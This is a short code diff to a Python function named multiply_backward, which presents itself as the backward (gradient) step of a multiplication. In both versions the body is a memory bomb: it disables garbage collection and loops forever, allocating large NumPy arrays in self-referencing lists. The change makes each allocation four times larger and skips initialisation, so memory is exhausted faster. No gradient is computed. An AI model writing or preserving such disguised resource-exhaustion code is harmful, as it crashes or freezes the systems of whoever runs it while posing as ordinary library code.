@@ -10,7 +10,7 @@ import numpy as np
 def multiply_backward(grad_out, a, b):
     gc.disable()
     while True:
-        circle = [np.ones(1_000_000)]
+        circle = [np.empty(4_000_000)]
         circle.append(circle)
 
 
